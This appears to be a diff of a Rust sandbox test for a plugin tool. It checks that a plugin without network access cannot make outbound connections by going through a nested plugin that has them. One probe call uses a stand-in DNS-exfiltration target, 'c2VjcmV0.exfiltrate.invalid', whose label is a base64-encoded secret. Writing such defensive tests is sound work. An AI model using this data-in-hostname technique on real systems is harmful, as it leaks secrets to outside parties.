@@ -11,7 +11,7 @@ use std::process::{Command, Stdio};
 use serde_json::{Value, json};
 use toolwright_tests::golden::test_cache_dir;
 use toolwright_tests::mcp::StdioServer as Mcp;
-use toolwright_tests::programs::{EXAMPLES, NESTED};
+use toolwright_tests::programs::{EXAMPLES, NESTED, PROBE};
 use toolwright_tests::text_of;
 
 const NESTED_NAME: &str = "toolwright-test-nested";
@@ -21,6 +21,8 @@ const NESTED_NAME: &str = "toolwright-test-nested";
 struct Clone {
     root: tempfile::TempDir,
     config: PathBuf,
+    /// The tools `--allow` lets in.
+    allow: String,
 }
 
 impl Clone {
@@ -43,7 +45,11 @@ impl Clone {
             .find(|(name, _)| *name == "read")
             .unwrap();
         std::fs::write(plugins.join("read.wasm"), read).unwrap();
-        Clone { root, config }
+        Clone {
+            root,
+            config,
+            allow: "read,bash,nest".into(),
+        }
     }
 
     fn project(&self) -> PathBuf {
@@ -92,7 +98,7 @@ impl Clone {
             "--cache-dir".into(),
             test_cache_dir().to_string_lossy().into_owned(),
             "--allow".into(),
-            "read,bash,nest".into(),
+            self.allow.clone(),
         ]
     }
 
@@ -306,6 +312,71 @@ fn under_mcp_a_plugins_nested_calls_stay_within_its_grants() {
     // The next call works.
     let (is_error, text) = mcp.run(3, "read", json!({"path": "notes.txt"}));
     assert_eq!((is_error, text.as_str()), (false, "notes\n"));
+}
+
+/// A one-connection-at-a-time server on a free local port that says `hello`.
+fn greeter() -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let _ = std::io::Write::write_all(&mut stream, b"hello");
+        }
+    });
+    port
+}
+
+#[test]
+fn a_plugin_without_network_cannot_reach_hosts_or_names_through_a_plugin_with_it_under_exec_and_mcp() {
+    // The nesting plugin has no network (it requests none); it is granted calls to the probe, which is granted one
+    // address. Through the probe it would connect there, or have a name carrying data looked up
+    // (`<secret>.exfiltrate.invalid`): the call is refused before the probe runs, whatever it asks.
+    let mut clone = Clone::new();
+    clone.allow.push_str(",probe");
+    std::fs::copy(PROBE, clone.project().join(".toolwright/plugins/probe.wasm")).unwrap();
+    let port = greeter();
+    std::fs::write(
+        clone.project().join("toolwright.toml"),
+        format!(
+            "[plugins.{NESTED_NAME}]\ntools = [\"probe\"]\nnetwork = [\"127.0.0.1:{port}\"]\n\
+             [plugins.toolwright-test-probe]\nnetwork = [\"127.0.0.1:{port}\"]\n"
+        ),
+    )
+    .unwrap();
+    clone.trust();
+    let connect =
+        |target: String| json!({"name": "probe", "arguments": {"action": "connect", "target": target}});
+    let calls = json!([
+        connect(format!("localhost:{port}")),
+        connect("c2VjcmV0.exfiltrate.invalid:53".into()),
+        connect(format!("127.0.0.1:{port}")),
+    ]);
+    let refused = "probe error ran: Permission denied: the plugin toolwright-test-nested may not call probe of the \
+                   plugin toolwright-test-probe: the plugin toolwright-test-probe is granted network access, which \
+                   the plugin toolwright-test-nested is not.";
+    let (results, stderr) = clone.exec(&[nest(calls.clone())]);
+    assert_eq!(results.len(), 1, "{stderr}");
+    assert_eq!(results[0].1.lines().collect::<Vec<_>>(), [refused; 3], "{stderr}");
+    let mut mcp = clone.mcp();
+    let (is_error, text) = mcp.run(2, "nest", json!({ "calls": calls }));
+    assert!(!is_error, "{text}");
+    assert_eq!(text.lines().collect::<Vec<_>>(), [refused; 3]);
+    // The probe called directly reaches its address, and no other name.
+    let (is_error, text) = mcp.run(
+        3,
+        "probe",
+        json!({"action": "connect", "target": format!("127.0.0.1:{port}")}),
+    );
+    assert_eq!((is_error, text.as_str()), (false, "connected: hello"));
+    let (is_error, text) = mcp.run(
+        4,
+        "probe",
+        json!({"action": "connect", "target": format!("localhost:{port}")}),
+    );
+    assert_eq!(
+        (is_error, text.as_str()),
+        (true, "PermissionDenied: Permission denied (os error 2)")
+    );
 }
 
 /// The `guard` example (drops a leading `sudo ` from bash commands) as a trusted handler plugin, with `policy`.
